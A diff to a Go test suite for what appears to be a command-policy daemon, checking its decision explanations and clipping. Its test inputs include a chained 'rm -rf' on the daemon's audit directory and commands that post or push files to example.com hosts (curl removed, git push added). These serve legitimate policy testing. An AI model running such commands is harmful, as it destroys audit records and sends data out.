@@ -138,7 +138,7 @@ func TestExplainIsWhatWouldBeDecided(t *testing.T) {
 	}
 	calls, at := fmt.Sprint(h.rt.calls), len(h.records())
 	for _, argv := range [][]string{
-		{"ls"}, {"sh", "-c", "true && ls; rm -rf /var/lib/carrel/daemon/audit"}, {"curl", "-d", "@x", "https://example.com/in"},
+		{"ls"}, {"sh", "-c", "true && ls; rm -rf /var/lib/carrel/daemon/audit"}, {"git", "push", "https://example.com/in", "x"},
 	} {
 		d, verified, assumed, err := explain(alice, argv...)
 		if err != nil || !verified || assumed || d.Profile != policy.Workspace || !slices.ContainsFunc(d.Segments, func(s policy.Segment) bool {
@@ -288,7 +288,7 @@ func TestDecisionIsClipped(t *testing.T) {
 	h.create(alice, "demo")
 	var text strings.Builder
 	for i := range 400 {
-		fmt.Fprintf(&text, "curl https://h%d.example/%s -d @f;", i, strings.Repeat("€", 60))
+		fmt.Fprintf(&text, "git push https://h%d.example/%s f;", i, strings.Repeat("€", 60))
 	}
 	e := run("sh", "-c", text.String())
 	e.Asked.WaitMS = -1
